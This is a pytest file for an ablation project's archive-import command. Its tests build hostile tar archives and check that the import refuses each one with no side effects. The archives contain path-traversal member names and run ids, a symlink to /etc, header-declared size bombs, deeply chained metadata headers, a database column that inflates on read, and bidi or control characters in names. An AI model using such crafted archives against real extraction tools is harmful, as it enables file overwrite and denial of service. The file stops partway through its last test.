"""``python -m ablations import``: a node's archive is untrusted. Each hostile archive below is
built here in a temporary folder (none is committed) from a genuine node store, and must be
refused with exit 2 and one line naming the member or the run, with the local store (a full dump
of its tables) and the artifact and results folders (a hash of every file) exactly as before."""

import contextlib
import gzip
import hashlib
import io
import json
import os
import shutil
import sqlite3
import tarfile
import tempfile
import time
from pathlib import Path

import pytest

from ablations.__main__ import main
from alexnet.config import Config
from alexnet.data import FashionMNIST
from alexnet.tracking import Tracker
from alexnet.train import train

pytestmark = pytest.mark.xdist_group("import")  # its module-scoped fixtures are built once

TABLES = ("experiments", "runs", "tags", "params", "metrics", "latest_metrics")


@pytest.fixture(scope="module")
def node(tmp_path_factory, fmnist):
    """A genuine node folder: an MLflow store with a suite run, a claim run (verdict.json) and two
    arm runs (result.json of a real 1-epoch training on 20 images), its artifacts and a report."""
    folder = tmp_path_factory.mktemp("node")
    cwd = os.getcwd()
    os.chdir(folder)  # an SQLite store keeps its artifacts in ./mlruns
    try:
        tracker = Tracker(f"sqlite:///{folder}/mlflow.db")
        data = FashionMNIST(fmnist.train_images[:20], fmnist.train_labels[:20], fmnist.test_images[:10],
                            fmnist.test_labels[:10])
        config = Config(input_size=28, train_size=20, test_size=10, batch_size=10, epochs=1, device="cpu")
        with tracker.open_run("suite smoke", {"kind": "suite"}) as suite:
            with tracker.open_run("relu", {"kind": "claim", "claim": "relu"}, parent=suite):
                tracker.log_dict({"verdict": "inconclusive", "evidence": ["a line"], "tuned_lr": {},
                                  "verdict_tuned_lr": None, "runs": []}, "verdict.json")
                for seed in (0, 1):
                    with tracker.open_run(f"relu/relu/seed{seed}", {"kind": "arm", "seed": seed}):
                        result = train(config, seed, data=data, progress=False)
                        tracker.log_train_start(config.to_dict(), result.env, seed)
                        tracker.log_result(result)
    finally:
        os.chdir(cwd)
    (folder / "results" / "smoke" / "cpu").mkdir(parents=True)
    (folder / "results" / "smoke" / "cpu" / "claims.md").write_text("# node report\n")
    (folder / "log.txt").write_text("log\n")
    (folder / "manifest.json").write_text("{}\n")
    return folder


def pack(folder: Path, path: Path, extra: list[tuple[tarfile.TarInfo, bytes | None]] = ()) -> Path:
    """``folder``'s node layout as a .tar.gz, then ``extra`` members (header, data)."""
    with tarfile.open(path, "w:gz") as tar:
        for name in ("mlflow.db", "mlruns", "results", "log.txt", "manifest.json"):
            if (folder / name).exists():
                tar.add(folder / name, arcname=name)
        for info, data in extra:
            tar.addfile(info, io.BytesIO(data) if data is not None else None)
    return path


def variant(node: Path, tmp: Path, sql: str = "", edit=None) -> Path:
    """A copy of the node folder with ``sql`` run on its database and ``edit(folder)`` applied."""
    copy = tmp / f"variant-{len(list(tmp.glob('variant-*')))}"
    shutil.copytree(node, copy)
    if sql:
        with sqlite3.connect(copy / "mlflow.db") as db:
            db.executescript(sql)
    if edit:
        edit(copy)
    return copy


def member(name: str, kind=tarfile.REGTYPE, size: int = 0, link: str = "") -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type, info.size, info.linkname = kind, size, link
    return info


def one_run(node: Path) -> str:
    with sqlite3.connect(node / "mlflow.db") as db:
        return db.execute("SELECT run_uuid FROM runs r JOIN tags t USING (run_uuid) WHERE t.key = 'kind' "
                          "AND t.value = 'arm' ORDER BY run_uuid").fetchone()[0]


def snapshot(home: Path) -> tuple:
    """Every row of the local store's run tables, and a hash of every other file under ``home``."""
    rows = ()
    if (home / "mlflow.db").exists():
        with sqlite3.connect(home / "mlflow.db") as db:
            rows = tuple(tuple(sorted(map(repr, db.execute(f"SELECT * FROM {t}")))) for t in TABLES)
    files = tuple(sorted((str(p.relative_to(home)), hashlib.sha256(p.read_bytes()).hexdigest())
                         for p in home.rglob("*") if p.is_file() and not p.name.startswith("mlflow.db")))
    return rows, files


def run_import(home: Path, archive: Path, capsys, *extra: str) -> tuple[int, str, str]:
    """The import CLI, in ``home``, extracting into a temporary folder beside it (so that an escape
    from the extraction lands where ``outside`` looks)."""
    cwd, temp = os.getcwd(), tempfile.tempdir
    os.chdir(home)
    (home.parent / "extract").mkdir(exist_ok=True)
    tempfile.tempdir = str(home.parent / "extract")
    try:
        status = main(["import", str(archive), "--tracking-uri", f"sqlite:///{home}/mlflow.db", "--results-dir",
                       str(home / "results"), *extra])
    finally:
        os.chdir(cwd)
        tempfile.tempdir = temp
    assert not list((home.parent / "extract").iterdir()), "the temporary folder was left behind"
    out = capsys.readouterr()
    return status, out.out, out.err


@pytest.fixture(scope="module")
def imported(tmp_path_factory, node):
    """A local store that holds the node's genuine archive, imported once through the CLI."""
    folder = tmp_path_factory.mktemp("imported") / "home"
    folder.mkdir()
    cwd = os.getcwd()
    os.chdir(folder)
    try:
        status = main(["import", str(pack(node, folder.parent / "good.tar.gz")), "--tracking-uri",
                       f"sqlite:///{folder}/mlflow.db", "--results-dir", str(folder / "results")])
    finally:
        os.chdir(cwd)
    assert status == 0
    return folder


@pytest.fixture
def home(tmp_path, imported):
    """A copy of that store for one test, its artifact paths pointing into the copy."""
    return copy_store(imported, tmp_path / "home")


def copy_store(source: Path, folder: Path) -> Path:
    """A copy of the store in ``source``, its artifact paths pointing into the copy (an import into
    it must never write into the original)."""
    shutil.copytree(source, folder)
    with sqlite3.connect(folder / "mlflow.db") as db:
        db.execute("UPDATE experiments SET artifact_location = replace(artifact_location, ?, ?)",
                   (str(source), str(folder)))
        db.execute("UPDATE runs SET artifact_uri = replace(artifact_uri, ?, ?)", (str(source), str(folder)))
    return folder


def outside(home: Path) -> dict[Path, int]:
    """Sizes of the files around ``home`` in its test folder (where the import also extracts: see
    ``run_import``), to find any file an import writes outside the store."""
    return {p: p.stat().st_size for p in home.parent.rglob("*") if p.is_file() and not p.is_relative_to(home)}


@pytest.fixture
def refused(request, capsys, ledger):
    """refused(home, archive, expected, *options): exit 2, one line holding ``expected``, the store
    and results exactly as before, nothing written outside; recorded for ``nox -s reliability``."""
    def check(home: Path, archive: Path, expected: str, *extra: str) -> str:
        before, around = snapshot(home), outside(home)
        status, out, err = run_import(home, archive, capsys, *extra)
        lines = [line for line in err.splitlines() if line.strip()]
        new_outside = {p: s for p, s in outside(home).items() if around.get(p) != s}
        unchanged = snapshot(home) == before
        ledger(kind="archive", archive=request.node.name, rejected=status == 2, error=lines[0] if lines else "",
               outside_bytes=sum(new_outside.values()), store_changed=not unchanged)
        assert status == 2 and len(lines) == 1 and expected in lines[0], (status, err)
        assert "Traceback" not in err
        assert unchanged, "the refused import changed the store or the results"
        assert not new_outside, f"written outside the store: {sorted(new_outside)}"
        assert not list(home.rglob(".import-*")), "staging folders left behind"
        return lines[0]
    return check


def test_the_genuine_archive_imports_once_and_a_second_time_adds_nothing(home, node, tmp_path, capsys):
    before = snapshot(home)
    status, out, _ = run_import(home, pack(node, tmp_path / "again.tar.gz"), capsys)
    assert status == 0 and "imported 0 runs (4 already here)" in out and snapshot(home) == before
    run = one_run(node)
    result = next(home.glob(f"mlruns/*/{run}/artifacts/result.json"))
    assert json.loads(result.read_text())["seed"] in (0, 1)
    assert (home / "results" / "smoke" / "cpu" / "claims.md").read_text() == "# node report\n"


def test_run_id_traversal_is_refused(home, node, tmp_path, capsys, refused):
    run = one_run(node)
    bad = "../../../../escaped-" + run[:10]
    sql = "".join(f"UPDATE {t} SET run_uuid = '{bad}' WHERE run_uuid = '{run}';" for t in TABLES[1:])
    archive = pack(variant(node, tmp_path, sql), tmp_path / "traversal.tar.gz")
    line = refused(home, archive, "is not MLflow's 32 hex digits")
    assert "escaped-" in line and not list(tmp_path.rglob("escaped-*"))


def test_a_run_id_of_an_existing_local_run_cannot_replace_its_result(home, node, tmp_path, capsys):
    run = one_run(node)
    local = next(home.glob(f"mlruns/*/{run}/artifacts/result.json"))
    before = local.read_text()

    def forge(folder):
        path = next(folder.glob(f"mlruns/*/{run}/artifacts/result.json"))
        forged = json.loads(path.read_text())
        forged["epochs"][-1]["test_acc"] = 0.99
        path.write_text(json.dumps(forged))

    status, out, _ = run_import(home, pack(variant(node, tmp_path, edit=forge), tmp_path / "forged.tar.gz"), capsys)
    assert status == 0 and "imported 0 runs (4 already here)" in out
    assert local.read_text() == before


@pytest.mark.parametrize("links", [[("results/loop", ".")], [("results/a", "."), ("results/b", ".")],
                                   [("mlruns/out", "/etc")]], ids=["loop", "two-loops", "out"])
def test_links_anywhere_are_refused(home, node, tmp_path, capsys, links, refused):
    extra = [(member(name, tarfile.SYMTYPE, link=target), None) for name, target in links]
    archive = pack(node, tmp_path / "links.tar.gz", extra)
    refused(home, archive, f"member '{links[0][0]}' is a link")


def test_a_size_bomb_is_refused_from_its_headers(home, node, tmp_path, capsys, refused):
    """A header that declares 3 GiB (the data is not even there): refused before any extraction."""
    archive = tmp_path / "bomb.tar.gz"
    archive.write_bytes(gzip.compress(member("results/zeros", size=3 * 2**30).tobuf() + b"\0" * 10240))
    assert archive.stat().st_size < 1_000
    refused(home, archive, "its members declare more than 2 GiB (reached at 'results/zeros')")
    refused(home, archive, "declare more than 0.001 GiB", "--max-gb", "0.001")
    # the limit is on the members together: two of 0.6 MiB, each under a 1 MiB limit, are over it
    size = 600 * 2**10
    two = b"".join(member(f"results/{n}", size=size).tobuf() + b"\0" * size for n in "ab") + b"\0" * 10240
    (tmp_path / "two.tar.gz").write_bytes(gzip.compress(two))
    refused(home, tmp_path / "two.tar.gz", "its members declare more than 0.000977 GiB (reached at 'results/b')",
            "--max-gb", str(2**20 / 2**30))


def test_too_many_members_are_refused(home, node, tmp_path, capsys, monkeypatch, refused):
    import ablations.node.archive

    monkeypatch.setattr(ablations.node.archive, "MAX_MEMBERS", 5)  # the real limit, 50,000, at a size a test can build
    refused(home, pack(node, tmp_path / "many.tar.gz"), "more than 5 members")


def test_a_truncated_archive_is_refused(home, node, tmp_path, capsys, refused):
    good = pack(node, tmp_path / "whole.tar.gz").read_bytes()
    cut = tmp_path / "cut.tar.gz"
    cut.write_bytes(good[: len(good) // 2])
    refused(home, cut, "not a complete tar archive")


def _loosened(table: str) -> str:
    """SQL that drops ``table``'s constraints (keeping its rows), so that a forged row can repeat a key."""
    return (f"CREATE TABLE loose AS SELECT * FROM {table}; DROP TABLE {table}; ALTER TABLE loose RENAME TO {table};")


ROWS = {  # a hostile database edit -> what the refusal says
    "unknown experiment": ("UPDATE runs SET experiment_id = 99", "which the archive does not hold"),
    "empty experiment name": ("UPDATE experiments SET name = ' ' WHERE name = 'alexnet-claims'",
                              "repeated ids or empty names"),
    "no start time": ("UPDATE runs SET start_time = NULL WHERE rowid = 1", "invalid start_time 'None'"),
    "text time": ("UPDATE runs SET end_time = 'yesterday' WHERE rowid = 1", "invalid end_time 'yesterday'"),
    "bad source type": (_loosened("runs") + "UPDATE runs SET source_type = 'EVIL' WHERE rowid = 1",
                        "unknown status or source type"),
    "null is_nan": (_loosened("metrics") + "UPDATE metrics SET is_nan = NULL WHERE rowid = 1",
                    "invalid is_nan 'None'"),
    "long param": ("UPDATE params SET value = printf('%.9000c', 'x') WHERE rowid = 1", "invalid value"),
    "text metric": ("UPDATE metrics SET value = 'high' WHERE rowid = 1", "invalid value 'high'"),
    "newline in revision": ("UPDATE alembic_version SET version_num = 'x' || char(10) || 'imported 4 runs'",
                            "invalid schema revision 'x"),
}


@pytest.mark.parametrize("case", list(ROWS))
def test_rows_of_the_wrong_type_range_or_length_are_refused(home, node, tmp_path, case, refused):
    sql, expected = ROWS[case]
    refused(home, pack(variant(node, tmp_path, sql), tmp_path / "rows.tar.gz"), expected)


@pytest.mark.parametrize("table,expected", [("tags", "repeats"), ("runs", "or repeats")])
def test_repeated_keys_are_refused(home, node, tmp_path, table, expected, refused):
    again = "INSERT INTO tags SELECT * FROM tags WHERE key = 'kind'" if table == "tags" else \
        "INSERT INTO runs SELECT * FROM runs WHERE rowid = 1"
    refused(home, pack(variant(node, tmp_path, _loosened(table) + again), tmp_path / "dup.tar.gz"), expected)


@pytest.mark.parametrize("case,expected", [
    ("not sqlite", "its mlflow.db is not an SQLite database"),
    ("empty", "its mlflow.db is empty"),
    ("no tables", "its mlflow.db is not an MLflow store"),
    ("other schema", "differs from the local store's"),
])
def test_a_database_that_is_not_a_node_store_is_refused(home, node, tmp_path, capsys, case, expected, refused):
    def damage(folder):
        db = folder / "mlflow.db"
        if case == "not sqlite":
            db.write_text("this is not a database")
        elif case == "empty":
            db.write_bytes(b"")
        elif case == "no tables":
            db.unlink()
            sqlite3.connect(db).execute("CREATE TABLE t (x)").connection.close()
        else:
            with sqlite3.connect(db) as conn:
                conn.execute("UPDATE alembic_version SET version_num = 'deadbeef0000'")
    refused(home, pack(variant(node, tmp_path, edit=damage), tmp_path / "db.tar.gz"), expected)
    if case == "other schema":  # into a store that does not exist yet: none is left behind
        fresh = tmp_path / "fresh"
        fresh.mkdir()
        refused(fresh, pack(variant(node, tmp_path, edit=damage), tmp_path / "db2.tar.gz"), expected)
        assert not list(fresh.iterdir())


def _without(key):
    def edit(result):
        del result["epochs"][0][key]
        return result
    return edit


def _set(path, value):
    def edit(result):
        *parents, last = path
        target = result
        for p in parents:
            target = target[p]
        target[last] = value
        return result
    return edit


@pytest.mark.parametrize("file,content", [
    ("result.json", _set(("config", "lr"), "fast")),
    ("result.json", lambda r: "not an object"),
    ("result.json", _without("examples_per_s")),  # the suite's report reads it
    ("result.json", _set(("epochs", 0, "test_acc"), 10**400)),
    ("result.json", _set(("env",), {"code_version": "x"})),
    ("result.json", _set(("epochs",), [])),  # finished, with no epoch
    ("result.json", "[" * 100_000 + "]" * 100_000),  # nesting past the parser's recursion limit
    ("result.json", None),  # a folder where the file should be
    ("result.json", "missing"),  # a finished arm run without it
    ("verdict.json", lambda v: {"verdict": "proven", "evidence": []}),
    ("verdict.json", lambda v: {**v, "tuned_lr": [1]}),
], ids=["bad-config", "not-object", "no-speed", "huge", "no-env", "no-epochs", "deep", "folder", "missing",
        "bad-verdict", "tuned-list"])
def test_a_malformed_result_or_verdict_is_refused(node, tmp_path, capsys, file, content, refused):
    home = tmp_path / "fresh"  # a store without the node's runs: the bad file would be imported
    home.mkdir()

    def corrupt(folder):
        for path in folder.glob(f"mlruns/*/*/artifacts/{file}"):
            if content is None or content == "missing":
                path.unlink()
                if content is None:
                    path.mkdir()
            else:
                path.write_text(content if isinstance(content, str) else json.dumps(content(json.loads(
                    path.read_text()))))
    line = refused(home, pack(variant(node, tmp_path, edit=corrupt), tmp_path / "bad.tar.gz"),
                   "has no result.json file" if content in ("missing", None) else f"'s {file} is malformed")
    assert "run " in line
    assert not list(home.iterdir()), "a store was created by a refused import"
    assert not (home / "results").exists() or not any((home / "results").iterdir())


def test_a_running_run_with_a_future_heartbeat_comes_in_killed_without_its_lease(node, tmp_path, capsys):
    """A RUNNING run whose heartbeat lies a day ahead would make every later suite wait for it:
    it comes in KILLED, its lease tags dropped, so the next suite reserves and resumes it."""
    run = one_run(node)
    future = int(time.time()) + 86_400
    sql = (f"UPDATE runs SET status = 'RUNNING', end_time = NULL WHERE run_uuid = '{run}';"
           f"UPDATE tags SET value = 'otherhost:1:abc' WHERE run_uuid = '{run}' AND key = 'lease.owner';"
           f"UPDATE tags SET value = '{future}' WHERE run_uuid = '{run}' AND key = 'lease.heartbeat';")
    home = tmp_path / "fresh"
    home.mkdir()
    status, out, err = run_import(home, pack(variant(node, tmp_path, sql), tmp_path / "running.tar.gz"), capsys)
    assert status == 0 and "1 runs that were still RUNNING on the node came in as KILLED" in out, err
    with sqlite3.connect(home / "mlflow.db") as db:
        assert db.execute("SELECT status FROM runs WHERE run_uuid = ?", (run,)).fetchone() == ("KILLED",)
        assert not db.execute("SELECT key FROM tags WHERE run_uuid = ? AND key LIKE 'lease.%'", (run,)).fetchall()
    assert Tracker(f"sqlite:///{home}/mlflow.db").find({}, statuses=("RUNNING",)) == []


def test_local_reports_are_never_overwritten_silently(home, node, tmp_path, capsys, refused):
    def newer(folder):
        (folder / "results" / "smoke" / "cpu" / "claims.md").write_text("# a newer node report\n")
    archive = pack(variant(node, tmp_path, edit=newer), tmp_path / "newer.tar.gz")
    refused(home, archive, "differs from the local")
    status, out, _ = run_import(home, archive, capsys, "--replace-results")
    assert status == 0 and (home / "results" / "smoke" / "cpu" / "claims.md").read_text() == "# a newer node report\n"


def test_an_import_is_refused_while_a_suite_holds_the_store(home, node, tmp_path, capsys, refused):
    tracker = Tracker(f"sqlite:///{home}/mlflow.db")
    with tracker.store_lock():  # what a running suite holds
        refused(home, pack(node, tmp_path / "busy.tar.gz"), "a suite is running on")


def test_names_are_printed_without_markup_or_control_characters(home, node, tmp_path, capsys, refused):
    archive = pack(node, tmp_path / "markup.tar.gz", [(member("x[bold]red\x1b[31m"), b"")])
    line = refused(home, archive, "holds control characters")
    assert "\x1b" not in line and "x[bold]red" in line


def test_bad_options_are_refused_before_reading_the_archive(tmp_path, capsys):
    for args, expected in ((["--max-gb", "0"], "invalid --max-gb 0.0"), (["--max-gb", "nan"], "invalid --max-gb nan")):
        with pytest.raises(SystemExit) as exit_:
            main(["import", str(tmp_path / "none.tar.gz"), *args])
        assert exit_.value.code == 2 and expected in capsys.readouterr().err
    status = main(["import", str(tmp_path / "none.tar.gz"), "--tracking-uri", f"sqlite:///{tmp_path}/h.db",
                   "--results-dir", str(tmp_path / "r")])
    assert status == 2 and "no such file" in capsys.readouterr().err and not (tmp_path / "h.db").exists()


@pytest.mark.parametrize("name,expected", [
    ("results/../../escaped.txt", "member 'results/../../escaped.txt' leads outside it"),
    ("/tmp/escaped.txt", "member '/tmp/escaped.txt' leads outside it"),
    ("evil.sh", "unexpected entry 'evil.sh'"),
])
def test_members_leading_out_or_unexpected_are_refused(home, node, tmp_path, capsys, name, expected, refused):
    refused(home, pack(node, tmp_path / "member.tar.gz", [(member(name, size=1), b"x")]), expected)
    assert not (tmp_path / "escaped.txt").exists() and not Path("/tmp/escaped.txt").exists()


def test_a_file_that_is_not_a_tar_archive_is_refused_before_any_store_is_opened(tmp_path, capsys):
    not_tar = tmp_path / "x.tar.gz"
    not_tar.write_text("hello")
    status, _, err = run_import(tmp_path, not_tar, capsys)
    assert status == 2 and "not a gzip-compressed tar archive" in err and not (tmp_path / "mlflow.db").exists()


def test_a_malformed_result_already_in_the_store_is_one_line_naming_the_run(tmp_path, capsys):
    """Written there by anything but this project: the suite stops before training, naming the run and the fix."""
    from ablations.claims import BY_ID, SCALES
    from ablations.running.plan import arm_config
    from alexnet.env import code_version

    config = arm_config(BY_ID["maxpool"], "max", SCALES["smoke"], "cpu")
    tracker = Tracker(f"sqlite:///{tmp_path}/mlflow.db")
    cwd = os.getcwd()
    os.chdir(tmp_path)
    try:
        with tracker.open_run("forged", {"kind": "arm", "config_key": config.key(), "seed": 0,
                                         "code_version": code_version()}) as run_id:
            tracker.log_dict({"config": config.to_dict(), "seed": "zero"}, "result.json")
        status = main(["--scale", "smoke", "--only", "maxpool", "--tracking-uri", f"sqlite:///{tmp_path}/mlflow.db",
                       "--results-dir", str(tmp_path / "results"), "--checkpoint-dir", str(tmp_path / "ck"),
                       "--device", "cpu"])
    finally:
        os.chdir(cwd)
    err = capsys.readouterr().err
    assert status == 2 and f"run {run_id}'s result.json" in err and "seed: expected an integer" in err
    assert "Traceback" not in err


@pytest.mark.slow
def test_sigterm_during_extraction_removes_the_temporary_folder_and_imports_nothing(home, node, tmp_path):
    """A large (genuine-looking) member keeps the import extracting; SIGTERM then: exit 130, the
    temporary folder gone, the store and results as they were."""
    import signal
    import subprocess
    import sys

    from conftest import REPO

    big = tmp_path / "big"
    shutil.copytree(node, big)
    with (big / "results" / "zeros.bin").open("wb") as f:
        f.truncate(1_500_000_000)  # 1.5 GB of zeros: seconds to write out, under the 2 GiB limit
    archive = pack(big, tmp_path / "big.tar.gz")
    (big / "results" / "zeros.bin").unlink()
    before, scratch = snapshot(home), tmp_path / "scratch"
    scratch.mkdir()
    proc = subprocess.Popen([sys.executable, "-m", "ablations", "import", str(archive), "--tracking-uri",
                             f"sqlite:///{home}/mlflow.db", "--results-dir", str(home / "results")], cwd=home,
                            env={**os.environ, "PYTHONPATH": str(REPO), "TMPDIR": str(scratch)},
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    deadline = time.monotonic() + 120
    while not list(scratch.glob("alexnet-import-*/results/zeros.bin")) and time.monotonic() < deadline:
        time.sleep(0.05)
    proc.send_signal(signal.SIGTERM)
    _, err = proc.communicate(timeout=120)
    assert proc.returncode == 130 and "nothing was imported" in err, err
    assert not list(scratch.iterdir()) and snapshot(home) == before


def test_a_huge_metadata_header_is_refused_before_it_is_read(home, node, tmp_path, refused):
    """A pax record (or GNU long name) declaring 100 MB would be read into memory whole by tarfile."""
    header = member("././@PaxHeader", tarfile.XHDTYPE, size=100_000_000)
    archive = tmp_path / "pax.tar.gz"
    archive.write_bytes(gzip.compress(header.tobuf(tarfile.USTAR_FORMAT) + b"\0" * 10240))
    refused(home, archive, "a metadata header declares 100,000,000 bytes")


def test_a_flipped_bit_is_caught_by_the_gzip_checksum(home, node, tmp_path, refused):
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w") as tar:
        for name in ("mlflow.db", "mlruns", "results", "log.txt", "manifest.json"):
            tar.add(node / name, arcname=name)
    data = bytearray(raw.getvalue())
    data[len(data) // 2] ^= 0x10  # one bit, somewhere in the members (tarfile alone would not notice in data)
    good = gzip.compress(raw.getvalue())
    flipped = gzip.compress(bytes(data))
    archive = tmp_path / "flipped.tar.gz"  # the stream of the original with the CRC of the original
    archive.write_bytes(flipped[:-8] + good[-8:])
    refused(home, archive, "not a complete tar archive")


def test_a_name_that_is_not_utf8_is_refused(home, node, tmp_path, refused):
    info = member("results/\udcff\udcfe.md", size=1)
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.GNU_FORMAT, errors="surrogateescape") as tar:
        tar.addfile(info, io.BytesIO(b"x"))
    archive = tmp_path / "latin.tar.gz"
    archive.write_bytes(gzip.compress(raw.getvalue()))
    refused(home, archive, "is empty, not UTF-8 or holds control characters")


def test_a_report_blocked_by_a_local_file_is_refused_before_any_run_is_written(node, tmp_path, refused):
    home = tmp_path / "fresh"
    (home / "results" / "smoke").mkdir(parents=True)
    (home / "results" / "smoke" / "cpu").write_text("a local file where the node has a folder")
    refused(home, pack(node, tmp_path / "blocked.tar.gz"), "a local folder or file stands there")
    assert not (home / "mlflow.db").exists()


def test_new_experiments_keep_their_artifacts_beside_the_store(node, tmp_path, capsys):
    """Whatever the working folder: the archive's experiment name decides nothing about where files land."""
    home, elsewhere = tmp_path / "home", tmp_path / "elsewhere"
    home.mkdir()
    elsewhere.mkdir()
    renamed = variant(node, tmp_path, "UPDATE experiments SET name = 'other' WHERE name = 'alexnet-claims'")
    archive = pack(renamed, tmp_path / "e.tar.gz")
    cwd = os.getcwd()
    os.chdir(home)
    try:
        Tracker(f"sqlite:///{home}/mlflow.db")  # the store exists, its artifacts in home/mlruns
        os.chdir(elsewhere)
        status = main(["import", str(archive), "--tracking-uri", f"sqlite:///{home}/mlflow.db", "--results-dir",
                       str(home / "results")])
    finally:
        os.chdir(cwd)
    assert status == 0, capsys.readouterr().err
    assert not list(elsewhere.iterdir()) and len(list(home.glob("mlruns/*/*/artifacts/result.json"))) == 2


def test_a_results_folder_inside_the_stores_artifacts_is_refused(home, node, tmp_path, capsys):
    status, _, err = run_import(home, pack(node, tmp_path / "inside.tar.gz"), capsys, "--results-dir",
                                str(home / "mlruns" / "1"))
    assert status == 2 and "lie inside one another" in err


# the second review's cases


def _raw_tar(*members: tuple[tarfile.TarInfo, bytes]) -> bytes:
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.GNU_FORMAT) as tar:
        for info, data in members:
            tar.addfile(info, io.BytesIO(data))
    return raw.getvalue()


@pytest.mark.parametrize("name", ["results/mlflow.db-journal", "results/x.db", "results/a/mlflow.db.writers"])
def test_a_report_named_like_a_database_or_lock_file_is_refused(home, node, tmp_path, name, refused):
    """SQLite replays a -journal beside a database: a report may never carry such a name."""
    refused(home, pack(node, tmp_path / "journal.tar.gz", [(member(name, size=1), b"x")]),
            "has the name of a database or lock file")


def test_a_results_folder_holding_the_store_is_refused(home, node, tmp_path, capsys):
    status, _, err = run_import(home, pack(node, tmp_path / "r.tar.gz"), capsys, "--results-dir", str(home))
    assert status == 2 and "lie inside one another" in err


@pytest.mark.parametrize("case", ["no result", "validation result", "other config", "swapped seed"])
def test_a_finished_run_the_suite_would_reuse_needs_its_own_test_result(node, tmp_path, case, refused):
    """A FINISHED run carrying a run key (config_key, seed, code_version) is what a suite reuses,
    whatever its kind: its result.json must exist, be scored on the test set and name that config."""
    run = one_run(node)

    def forge(folder):
        path = next(folder.glob(f"mlruns/*/{run}/artifacts/result.json"))
        result = json.loads(path.read_text())
        key = Config(**result["config"]).key() if case != "other config" else "0" * 12
        with sqlite3.connect(folder / "mlflow.db") as db:
            db.executemany("INSERT INTO tags VALUES (?, ?, ?)", [("config_key", key, run),
                           ("code_version", "x", run)])
            db.execute("UPDATE tags SET value = 'claim' WHERE run_uuid = ? AND key = 'kind'", (run,))
            if case == "swapped seed":  # the right config key, another seed: one seed's result reused as another's
                db.execute("UPDATE tags SET value = CAST(value + 7 AS TEXT) WHERE run_uuid = ? AND key = 'seed'",
                           (run,))
        if case == "no result":
            path.unlink()
        elif case == "validation result":
            result["eval_split"] = "val"
            for e in result["epochs"]:
                e["val_acc"] = e.pop("test_acc")
            path.write_text(json.dumps(result))
    home = tmp_path / "fresh"
    home.mkdir()
    expected = {"no result": "which a suite would reuse, has no result.json", "validation result": "expected 'test'",
                "other config": "expected those its tags name", "swapped seed": "expected those its tags name"}[case]
    refused(home, pack(variant(node, tmp_path, edit=forge), tmp_path / "forged.tar.gz"), expected)


def test_chained_metadata_headers_are_one_line(home, node, tmp_path, refused):
    chain = b""
    for i in range(3000):  # each small, but tarfile reads the next header recursively
        name = f"results/{i}".encode()
        info = member("././@LongLink", tarfile.GNUTYPE_LONGNAME, size=len(name) + 1)
        chain += info.tobuf(tarfile.USTAR_FORMAT) + (name + b"\0").ljust(512, b"\0")
    archive = tmp_path / "chain.tar.gz"
    archive.write_bytes(gzip.compress(chain + member("results/x", size=1).tobuf() + b"x".ljust(512, b"\0")
                                      + b"\0" * 10240))
    refused(home, archive, "nest or chain too deeply")


def test_deeply_nested_folders_are_refused(home, node, tmp_path, refused):
    deep = "results/" + "d/" * 40 + "f.md"
    refused(home, pack(node, tmp_path / "deep.tar.gz", [(member(deep, size=1), b"x")]), "nested deeper than 32")


@pytest.mark.parametrize("fmt", ["plain", "xz"])
def test_only_gzip_archives_are_read(home, node, tmp_path, fmt, refused):
    archive = tmp_path / f"{fmt}.tar.gz"
    with tarfile.open(archive, "w" if fmt == "plain" else "w:xz") as tar:
        tar.add(node / "mlflow.db", arcname="mlflow.db")
    refused(home, archive, "not a gzip-compressed tar archive")


def test_a_second_gzip_stream_after_the_archive_is_refused(home, node, tmp_path, refused):
    archive = pack(node, tmp_path / "tail.tar.gz")
    archive.write_bytes(archive.read_bytes() + gzip.compress(b"\0" * 50_000_000))
    refused(home, archive, "more data than its members declare")


@pytest.mark.parametrize("sql", [
    "ALTER TABLE tags RENAME TO t0; CREATE VIEW tags AS SELECT * FROM t0;",  # a view
    # a column whose values are made on reading: a 32 KB store asking for gigabytes
    "ALTER TABLE tags ADD COLUMN x TEXT GENERATED ALWAYS AS (hex(zeroblob(2500000))) VIRTUAL;"])
def test_views_or_generated_columns_in_place_of_tables_are_refused(home, node, tmp_path, refused, sql):
    refused(home, pack(variant(node, tmp_path, sql), tmp_path / "view.tar.gz"), "tags is not a plain table")


def test_names_with_line_or_direction_characters_are_refused(home, node, tmp_path, refused):
    name = "results/smoke/cpu/x\u2028imported 4 runs\u202e.md"
    line = refused(home, pack(node, tmp_path / "bidi.tar.gz", [(member(name, size=1), b"x")]),
                   "holds control characters")
    assert "\u2028" not in line and "\u202e" not in line


def test_a_deleted_local_experiment_of_the_same_name_is_a_clear_refusal(home, node, tmp_path, refused):
    with sqlite3.connect(home / "mlflow.db") as db:
        db.execute("INSERT INTO experiments (experiment_id, name, artifact_location, lifecycle_stage) "
                   "VALUES (77, 'renamed', 'x', 'deleted')")
    sql, new_ids = _new_ids("UPDATE experiments SET name = 'renamed' WHERE name = 'alexnet-claims';")
    renamed = variant(node, tmp_path, sql, edit=new_ids)  # the runs become new to the home store
    line = refused(home, pack(renamed, tmp_path / "deleted.tar.gz"), "holds a deleted experiment named 'renamed'")
    assert "invalid archive" not in line  # a local condition, not the archive's fault


@pytest.mark.parametrize("case", ["store in new folders", "artifact folder exists", "artifact folder is a file",
                                  "store without the experiment"])
def test_a_refused_import_into_a_new_store_leaves_nothing(node, tmp_path, capsys, case):
    """Nor into an existing store that lacks the suite's experiment: no row of it, no folder."""
    work = tmp_path / "work"
    work.mkdir()
    if case == "store without the experiment":
        with contextlib.chdir(work):
            Tracker(f"sqlite:///{work}/mlflow.db", experiment="another")
    if case == "artifact folder exists":
        (work / "mlruns" / "0").mkdir(parents=True)
    if case == "artifact folder is a file":
        (work / "mlruns").write_text("not a folder")
    db = work / "store" / "sub" / "mlflow.db" if case == "store in new folders" else work / "mlflow.db"
    before = sorted(str(p) for p in work.rglob("*")), experiments(db)
    archive = pack(variant(node, tmp_path, "UPDATE alembic_version SET version_num = 'deadbeef0000'"),
                   tmp_path / "schema.tar.gz")
    cwd = os.getcwd()
    os.chdir(work)
    try:
        status = main(["import", str(archive), "--tracking-uri", f"sqlite:///{db}", "--results-dir",
                       str(work / "results")])
    finally:
        os.chdir(cwd)
    assert status == 2, capsys.readouterr().err
    lock = [] if case != "store without the experiment" else [str(db) + ".writers"]  # may be held: never unlinked
